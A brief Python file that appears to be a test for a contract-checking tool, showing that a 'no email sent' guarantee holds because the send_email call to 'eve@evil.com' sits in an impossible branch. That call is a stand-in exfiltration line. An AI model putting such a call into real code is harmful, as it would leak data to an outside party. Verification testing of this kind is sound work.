# proved: one text is not equal and unequal to another
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import lookup, send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    name = lookup("a").lower()
    if name == "ann":
        if name != "ann":
            send_email("eve@evil.com", "x")
